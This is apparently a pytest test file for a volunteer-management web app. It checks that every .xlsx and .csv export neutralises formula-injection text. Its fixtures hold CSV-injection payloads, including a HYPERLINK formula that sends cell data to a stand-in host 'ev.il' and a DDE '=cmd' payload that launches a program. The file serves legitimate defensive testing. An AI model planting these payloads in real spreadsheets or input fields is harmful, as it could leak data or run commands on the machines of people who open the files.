"""Every export is inert: no cell of any .xlsx or .csv the product writes is a formula.

The download routes are found in the URL map (a rule ending in a spreadsheet suffix, or a view
of ours that sends a file), so a new export is picked up here without anyone remembering to add
it; a route this file does not know how to fetch fails the test. Each is downloaded, as a role
allowed to, over a district whose names, skills, titles and notes begin with formula
characters, and parsed back. The CLI's import reports are checked the same way.
"""

import ast
import csv
import inspect
import io
import re
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from flask import url_for
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from tests.reports.conftest import make_service  # noqa: F401  (a fixture, shared)
from volunteer.core.cells import FORMULA_STARTS, append_row, csv_writer, neutralise
from volunteer.core.periods import parse_period
from volunteer.extensions import db

CST = timezone(timedelta(hours=8))
PERIOD = "2026Q1"
HYPERLINK = '=HYPERLINK("//ev.il/?"&C4,"看")'  # fits a name (30 characters)
PAYLOADS = [HYPERLINK, "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1",
            "=cmd|' /C calc'!A0"]
SPREADSHEET_SUFFIXES = (".xlsx", ".xlsm", ".xls", ".ods", ".csv", ".tsv")
# what in a view's source says it sends a file
DOWNLOAD_MARKS = ("download(", "send_file(", "send_from_directory(", "Content-Disposition",
                  "XLSX", "text/csv")
# files that are not spreadsheets (nothing in them is read as a formula)
NOT_SPREADSHEETS = {
    "privacy.download_data": "a member's own data as a JSON file",
    "members.import_template": "a sample sheet of the fixed column headings, no stored text",
}


def local(*args) -> datetime:
    return datetime(*args, tzinfo=CST)


# --- the neutraliser itself -------------------------------------------------------------------

@pytest.mark.parametrize("text", PAYLOADS + ["=", "-", "\n=1", "＠x", "＋1", "－1"])
def test_formula_like_text_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [
    "顾丽", "138****5678", "13812345678", "2026-03-10", "'=already quoted", "", " =1", None, 0,
    -1, 2.5, -0.5, True, date(2026, 3, 10), datetime(2026, 3, 10, 8)])
def test_other_values_keep_their_type(value):
    assert neutralise(value) is value or neutralise(value) == value
    assert type(neutralise(value)) is type(value)


def test_the_row_writers_neutralise_text_and_keep_numbers(tmp_path):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    from openpyxl.cell import WriteOnlyCell

    styled = WriteOnlyCell(sheet, value="=1+1")
    append_row(sheet, [HYPERLINK, -1, 2.5, styled])
    book.save(tmp_path / "a.xlsx")
    cells = next(load_workbook(tmp_path / "a.xlsx").active.iter_rows())
    assert [c.value for c in cells] == ["'" + HYPERLINK, -1, 2.5, "'=1+1"]
    assert [c.data_type for c in cells] == ["s", "n", "n", "s"]
    out = io.StringIO()
    csv_writer(out).writerows([["-1", -1, "@x"]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'-1", "-1", "'@x"]


def test_no_module_writes_rows_past_the_neutraliser():
    """Rows reach a sheet or a CSV only through core.cells: no csv.writer, sheet.append,
    sheet.cell(value=…), sheet[…] = … or cell.value = … anywhere else."""
    root = Path(__file__).resolve().parents[2] / "volunteer"
    offences = []
    for path in root.rglob("*.py"):
        if path.relative_to(root).as_posix() == "core/cells.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            where = f"{path.relative_to(root)}:{getattr(node, 'lineno', '?')}"
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                owner = ast.unparse(node.func.value)
                if node.func.attr in ("writer", "DictWriter") and owner == "csv":
                    offences.append(f"{where} csv.{node.func.attr}")
                elif node.func.attr == "append" and _sheet_like(owner):
                    offences.append(f"{where} {owner}.append")
                elif node.func.attr == "cell" and _sheet_like(owner) and (
                        len(node.args) > 2 or any(k.arg == "value" for k in node.keywords)):
                    offences.append(f"{where} {owner}.cell(value=…)")
            elif isinstance(node, ast.Assign | ast.AugAssign):
                targets = node.targets if isinstance(node, ast.Assign) else [node.target]
                for target in targets:
                    sheet_item = isinstance(target, ast.Subscript) and _sheet_like(
                        ast.unparse(target.value))
                    cell_value = isinstance(target, ast.Attribute) and target.attr == "value" \
                        and "cell" in ast.unparse(target.value).lower()
                    if sheet_item or cell_value:
                        offences.append(f"{where} {ast.unparse(target)} = …")
    assert not offences, "write rows with volunteer.core.cells: " + "; ".join(offences)


def _sheet_like(name: str) -> bool:
    name = name.lower().rsplit(".", 1)[-1]  # a list of sheets ("sheets") is not one
    return name.endswith("sheet") or name in ("ws", "active")


# --- a district of hostile names --------------------------------------------------------------

@pytest.fixture
def hostile(ctx, make_street, make_community, make_grid, make_unit, make_branch, make_member,
            make_staff, make_service):  # noqa: F811
    """Every name a person can type, and every note, starting with a formula character."""
    from volunteer.mobilisation import services as mobilisation
    from volunteer.reports import runner
    from volunteer.tasks import services as tasks
    from volunteer.tasks.models import Task

    street = make_street("@SUM(1+1)街道")
    community = make_community(HYPERLINK, street)
    grid = make_grid(community, "\t=1网格")
    unit = make_unit("+1单位")
    branch = make_branch(community, "-1支部")
    members = [make_member(community, unit=unit, branch=branch, grid=grid, name=payload,
                           skills=("=HYPERLINK(1)", "@SUM", "medical"),
                           phone=f"1366600{number:04d}")
               for number, payload in enumerate(PAYLOADS)]
    for member in members:
        member.created_at = local(2025, 12, 1)
    db.session.commit()
    people = {
        "district_admin": make_staff("district_admin"),
        "street_reviewer": make_staff("street_reviewer", street),
        "community_secretary": make_staff("community_secretary", community),
        "branch_secretary": make_staff("branch_secretary", branch),
        "unit_contact": make_staff("unit_contact", unit),
    }
    for number, member in enumerate(members):
        claim = make_service(member, local(2026, 3, 10 + number, 12), minutes=60 + number,
                             quality=5, satisfaction=4)
        db.session.get(Task, claim.task_id).title = PAYLOADS[-1 - number]
    db.session.commit()

    task = tasks.create_task(
        people["community_secretary"], title="=HYPERLINK(\"https://evil.example\")",
        category="disinfection", location="-1 幢", description="@SUM", slots=20,
        starts_at=datetime.now(CST) + timedelta(days=2),
        ends_at=datetime.now(CST) + timedelta(days=2, hours=3),
        now=datetime.now(CST) - timedelta(hours=1))
    db.session.flush()
    for member in members:
        claim = tasks.claim_task(member, task)
        claim.adjust_reason = "=HYPERLINK(\"x\")"
        claim.end_reason = "+reason"
    db.session.commit()

    call = mobilisation.declare(
        people["street_reviewer"], title="=集结", message=HYPERLINK,
        community_ids=[community.id], posts=[{"name": "=岗位", "needed": 5}])
    db.session.commit()
    for member in members:
        mobilisation.reply(member, call, "reporting", "=HYPERLINK(\"note\")")
    db.session.commit()
    mobilisation.assign(people["community_secretary"], call, members[0].id, call.posts[0].id,
                        shift="+早班")
    db.session.commit()

    runner.run_report("quarterly-bulletin", parse_period(PERIOD), now=local(2026, 4, 1, 9, 30))
    db.session.commit()
    return {"street": street, "community": community, "grid": grid, "unit": unit,
            "branch": branch, "members": members, "task": task, "call": call, **people}


# --- how to fetch each download route (who may, with which arguments) ------------------------

REVIEW_SCOPES = [("district", "district_admin", None), ("street", "street_reviewer", "street"),
                 ("community", "community_secretary", "community"),
                 ("branch", "branch_secretary", "branch"), ("unit", "unit_contact", "unit")]


def _review_urls(world, url_for):
    """Every table of every kind of scope, its charts workbook and its hours CSV."""
    from volunteer.review.dashboard import TABLES

    found = []
    for kind, role, scope in REVIEW_SCOPES:
        args = {"kind": kind, "scope_id": world[scope].id} if scope else {}
        found += [(role, url_for("review.export", **args, period=PERIOD, table=table))
                  for table in TABLES[kind]]
        found.append((role, url_for("review.export_charts", **args, period=PERIOD)))
        found.append((role, url_for("review.hours_csv", **args, period=PERIOD)))
    return found


def _task_roster(world, url_for):
    task_id = world["task"].id
    return [("community_secretary", url_for("tasks.roster_export", task_id=task_id))]


def _mobilisation_roster(world, url_for):
    call_id = world["call"].id
    return [(role, url_for("mobilisation.roster_export", mobilisation_id=call_id, **args))
            for role in ("community_secretary", "street_reviewer", "branch_secretary")
            for args in ({}, {"show": "reporting"}, {"show": "assigned"})]


def _report_export(world, url_for):
    from volunteer.reports.models import ReportDelivery

    found = []
    for role in ("district_admin", "street_reviewer", "community_secretary", "unit_contact"):
        delivery_id = db.session.scalar(select(ReportDelivery.id).where(
            ReportDelivery.user_id == world[role].id))
        assert delivery_id, f"no bulletin for the {role}"
        found.append((role, url_for("reports.export", delivery_id=delivery_id)))
    return found


def _import_report(world, url_for, client):
    """Upload a hostile sheet of each kind on the import page; the report's link on the
    page is what the admin downloads."""
    found = []
    for kind, data in _hostile_sheets().items():
        page = client.post(url_for("members.import_sheet", kind=kind), data={
            "file": (io.BytesIO(data), f"{kind}.csv")}, content_type="multipart/form-data")
        assert page.status_code == 200, page.get_data(as_text=True)[:500]
        link = re.search(r'/admin/import/report/[0-9a-f]{32}\.csv', page.get_data(as_text=True))
        assert link, f"no report offered for the {kind} import"
        found.append(("district_admin", link.group(0)))
    return found


COVERED = {
    "review.export": _review_urls,
    "review.export_charts": _review_urls,
    "review.hours_csv": _review_urls,
    "tasks.roster_export": _task_roster,
    "mobilisation.roster_export": _mobilisation_roster,
    "reports.export": _report_export,
    "members.import_report": _import_report,
}


def _hostile_sheets() -> dict[str, bytes]:
    def sheet(header, rows):
        out = io.StringIO()
        writer = csv.writer(out)  # the attacker's file, not ours: no neutraliser here
        writer.writerow(header)
        writer.writerows(rows)
        return out.getvalue().encode("utf-8-sig")

    return {
        "members": sheet(["姓名", "手机号", "工作单位", "居住社区", "专长"], [
            [payload, f"1381234{number:04d}" if number % 2 else f"+86{number}",
             "+1单位", HYPERLINK, "=HYPERLINK(1)"] for number, payload in enumerate(PAYLOADS)]),
        "places": sheet(["街道", "社区", "网格"], [
            [f"{payload}街道", f"{payload}社区", "=网格"] for payload in PAYLOADS]),
        "units": sheet(["单位名称", "单位类型"], [[f"{payload}单位", "@type"]
                                              for payload in PAYLOADS]),
    }


def download_rules(app) -> list:
    """Every rule that sends a file: a spreadsheet suffix, or a view of ours that sends one."""
    found = []
    for rule in app.url_map.iter_rules():
        view = app.view_functions[rule.endpoint]
        source = ""
        if getattr(view, "__module__", "").startswith("volunteer"):
            source = inspect.getsource(inspect.unwrap(view))
        if rule.rule.lower().endswith(SPREADSHEET_SUFFIXES) or any(
                mark in source for mark in DOWNLOAD_MARKS):
            found.append(rule)
    return found


def test_the_download_routes_are_found(app):
    """The enumeration sees the exports we know of (a guard on the guard)."""
    endpoints = {rule.endpoint for rule in download_rules(app)}
    assert set(COVERED) <= endpoints
    unknown = endpoints - set(COVERED) - set(NOT_SPREADSHEETS)
    assert not unknown, (f"download routes with no formula check: {sorted(unknown)}; add them "
                         "to COVERED (or NOT_SPREADSHEETS with the reason) in this file")


def test_every_export_parses_back_without_a_formula(app, hostile):
    rules = download_rules(app)
    unknown = {rule.endpoint for rule in rules} - set(COVERED) - set(NOT_SPREADSHEETS)
    assert not unknown, f"download routes with no formula check: {sorted(unknown)}"
    adapter = app.url_map.bind("localhost")
    clients, fetched, hit = {}, 0, set()
    for builder in dict.fromkeys(COVERED.values()):  # each builder once, in order
        with app.test_request_context():
            if builder is _import_report:
                pairs = builder(hostile, url_for, _client_for(app, clients, hostile,
                                                              "district_admin"))
            else:
                pairs = builder(hostile, url_for)
        for role, url in pairs:
            response = _client_for(app, clients, hostile, role).get(url)
            assert response.status_code == 200, (role, url, response.status_code)
            rule, _args = adapter.match(url.split("?")[0], method="GET", return_rule=True)
            hit.add(rule.rule)
            quoted = assert_inert(response.data, response.mimetype, url)
            assert quoted, f"{url}: no hostile text reached the file (the test proves nothing)"
            fetched += 1
    missed = {rule.rule for rule in rules if rule.endpoint in COVERED} - hit
    assert not missed, f"download rules never fetched: {sorted(missed)}"
    assert fetched >= 30


def _client_for(app, clients, world, role):
    if role not in clients:
        client = app.test_client()
        from tests.conftest import PASSWORD

        response = client.post("/login", data={"phone": world[role].phone,
                                               "password": PASSWORD})
        assert response.status_code == 302
        clients[role] = client
    return clients[role]


def assert_inert(data: bytes, mimetype: str, where: str) -> int:
    """No cell of the file is a formula; returns how many quoted (neutralised) texts it held."""
    quoted = 0
    if "spreadsheetml" in mimetype:
        book = load_workbook(io.BytesIO(data))
        cells = [(cell.value, cell.data_type, f"{sheet.title}!{cell.coordinate}")
                 for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    elif mimetype == "text/csv":
        text = data.decode("utf-8-sig")
        cells = [(value, "s", f"line {number}")
                 for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), 1)
                 for value in row]
    else:
        raise AssertionError(f"{where}: a {mimetype} download; parse it here")
    for value, data_type, at in cells:
        assert data_type != "f", f"{where} {at}: a formula {value!r}"
        if isinstance(value, str) and value:
            assert value[0] not in FORMULA_STARTS, f"{where} {at}: {value!r}"
            quoted += value.startswith("'") and value[1:2] in FORMULA_STARTS
    return quoted


# --- the command line's import reports --------------------------------------------------------

@pytest.mark.parametrize("kind", ["members", "places", "units"])
def test_the_cli_import_report_holds_no_formula(runner, hostile, tmp_path, kind):
    sheet = tmp_path / f"{kind}.csv"
    sheet.write_bytes(_hostile_sheets()[kind])
    result = runner.invoke(args=["import", kind, str(sheet), "--report",
                                 str(tmp_path / "report.csv")])
    assert result.exit_code == 0, result.output
    data = (tmp_path / "report.csv").read_bytes()
    assert assert_inert(data, "text/csv", f"import {kind}") >= len(PAYLOADS)
